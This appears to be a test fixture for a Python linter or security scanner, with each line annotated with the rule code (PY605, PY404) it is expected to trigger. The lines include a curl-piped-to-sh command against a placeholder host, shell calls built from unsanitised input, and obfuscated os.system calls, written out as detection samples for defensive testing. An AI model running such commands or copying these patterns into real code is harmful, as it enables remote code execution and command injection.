import os
os.system("curl -s http://canary.invalid/x | sh")  # expect: PY605
os.system(cmd)  # expect: PY605
out = os.popen("/bin/ls " + path).read()  # expect: PY605
from subprocess import getoutput  # expect: PY404
getoutput(cmd)  # expect: PY605
__import__("os").system(cmd)  # expect: PY605
getattr(__import__("os"), "system")(cmd)  # expect: PY605
